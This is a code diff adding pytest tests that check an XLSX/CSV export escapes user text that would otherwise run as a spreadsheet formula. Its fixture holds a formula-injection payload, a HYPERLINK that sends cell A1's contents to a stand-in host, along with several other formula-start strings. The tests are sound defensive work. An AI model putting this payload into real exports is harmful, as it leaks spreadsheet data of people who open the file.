@@ -91,3 +91,29 @@ async def test_year_defaults_to_this_year_and_is_bounded(api_as):
     assert r.status_code == 200 and f"uitvoeringsprogramma-{date.today().year}.xlsx" in r.headers["content-disposition"]
     assert (await viewer.get(URL, params={"year": 3000})).status_code == 400
     assert (await viewer.get(URL, params={"year": 2014, "format": "pdf"})).status_code == 400
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HYPERLINK = '=HYPERLINK("http://x/?"&A1,"k")'
+
+
+@pytest.fixture
+def hostile(db, org):
+    make_intervention(db, org, title=HYPERLINK, years=(2014,), goal="@SUM(A1)", content="-2+3",
+                      target_group="+31 6", category="basic_skill", cost_fixed="12.50")
+
+
+async def test_xlsx_writes_user_text_as_strings_never_formulas(api_as, hostile):
+    book = load_workbook(io.BytesIO((await api_as("viewer").get(URL, params={"year": 2014})).content))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell for cell in cells if cell.data_type == "f"] == []
+    row = [cell.value for cell in book.worksheets[0][2]]
+    assert row[:5] == ["'" + HYPERLINK, "Nieuw", "'@SUM(A1)", "'-2+3", "'+31 6"]
+    assert row[7] == 12.5 and book.worksheets[0][2][7].data_type == "n"
+
+
+async def test_csv_quotes_user_text_that_would_run_as_a_formula(api_as, hostile):
+    r = await api_as("viewer").get(URL, params={"year": 2014, "format": "csv"})
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
+    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)] == []
+    assert rows[1][1] == "'" + HYPERLINK and rows[1][8] == "12,50"
